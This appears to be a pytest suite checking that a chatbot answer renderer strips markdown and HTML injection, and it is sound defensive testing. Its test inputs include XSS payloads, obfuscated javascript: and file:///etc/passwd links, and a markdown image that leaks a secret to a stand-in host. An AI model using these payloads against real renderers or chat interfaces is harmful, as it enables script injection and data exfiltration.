from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.markdown import BlockSplitter, render_answer


def render(text: str) -> str:
    return render_answer(text, known={1, 2})


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.test/?d=SECRET)",
        "![x][1]\n\n[1]: https://evil.test/",
        "<img src=https://evil.test/x.png>",
        "![<img src=x onerror=alert(1)>](https://evil.test/)",
        "<style>@import url(//evil.test)</style>",
        '<div style="background:url(//evil.test)">x</div>',
        '<svg onload="alert(1)"><image href="//evil.test"/></svg>',
        "[a]: //evil.test\n\n[a]",
        "x[^1]\n\n[^1]: ![y](//evil.test)",
        "<iframe src=//evil.test></iframe><script src=//evil.test></script>",
        "<details open ontoggle=alert(1)>x</details>",
    ],
)
def test_nothing_that_loads_or_runs_by_itself_comes_through(text: str) -> None:
    html = render(text)

    assert set(re.findall(r"<([a-z]+)", html)) <= {"p", "a", "sup", "br"}
    assert not re.search(r"<[^>]*(?:\s(?:src|style|on\w+)\s*=)", html)


def test_an_image_becomes_its_description() -> None:
    assert render("See ![the plan](https://evil.test/?d=1).") == "<p>See the plan.</p>\n"


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#9;script:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.test",
        "/widget/v1/token/",
        "evil.test",
        "ftp://evil.test",
        "blob:https://x.test/1",
    ],
)
def test_a_link_elsewhere_than_web_and_mail_is_text(address: str) -> None:
    for text in (
        f"[x]({address})",
        f"[x](<{address}>)",
        f"<{address}>",
        f"[x][y]\n\n[y]: {address}",
    ):
        assert "href" not in render(text), text


def test_a_link_opens_apart_and_vouches_for_nothing() -> None:
    html = render('[shop](https://shop.test/a "a title")')

    assert html == (
        '<p><a href="https://shop.test/a" target="_blank" rel="noopener nofollow">shop</a></p>\n'
    )
    assert 'href="mailto:a@b.test"' in render("[mail](mailto:a@b.test)")


@pytest.mark.parametrize("language", ["html", "svg", "mermaid", "math", "javascript"])
def test_a_code_fence_stays_code(language: str) -> None:
    html = render(f"```{language}\n<script>alert(1)</script>\n```")

    assert html == "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n"


def test_known_citations_become_marks_and_others_stay_text() -> None:
    assert render("Yes [1], no [7].") == '<p>Yes<sup data-n="1">1</sup>, no [7].</p>\n'
    assert render("`a[1]`") == "<p><code>a[1]</code></p>\n"


def test_a_link_cannot_dress_up_as_a_citation() -> None:
    assert "href" not in render("[1](https://evil.test/)")
    assert "<sup" not in render('<sup data-n="1">1</sup>')


def test_lists_tables_and_headings_are_kept() -> None:
    html = render("# Plans\n\n3. a\n4. b\n\n|x|y|\n|-|-|\n|1|**2**|")

    assert '<ol start="3">' in html
    assert "<td><strong>2</strong></td>" in html


def feed(text: str, size: int) -> list[str]:
    splitter = BlockSplitter()
    blocks = [b for at in range(0, len(text), size) for b in splitter.feed(text[at : at + size])]
    return [*blocks, *splitter.flush()]


def test_a_block_is_finished_when_the_next_one_begins() -> None:
    splitter = BlockSplitter()

    assert splitter.feed("One\nand more") == []
    assert splitter.feed(".\n\n") == ["One\nand more.\n\n"]
    assert splitter.feed("- a\n- b\n\n") == []
    assert splitter.feed("Tw") == []
    assert splitter.rest == "- a\n- b\n\nTw"
    assert splitter.feed("o\n") == ["- a\n- b\n\n"]
    assert splitter.flush() == ["Two\n"]


def test_a_list_is_not_cut_between_its_loose_items() -> None:
    assert feed("1. a\n\n2. b\n\n3. c\n\nEnd.\n", 1) == ["1. a\n\n2. b\n\n3. c\n\n", "End.\n"]


def test_a_fence_with_blank_lines_stays_whole() -> None:
    assert feed("```\na\n\n\nb\n```\n\nEnd.\n", 1) == ["```\na\n\n\nb\n```\n\n", "End.\n"]


PIECES = st.sampled_from(
    ["a", "b c", " ", "\n", "\n\n", "- ", "1. ", "2) ", "# ", "> ", "```\n", "    ", "|", "|-|-|\n",
     "---\n", "===\n", "[1]", "**", "`", "\t", "<b>", "~~~\n", "é", "[x]: //y\n"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join), st.integers(1, 5))
def test_blocks_together_show_what_the_whole_text_shows(text: str, size: int) -> None:
    blocks = feed(text, size)

    assert "".join("".join(blocks).split()) == "".join(text.split())
    assert "".join(map(render, blocks)) == render(text)
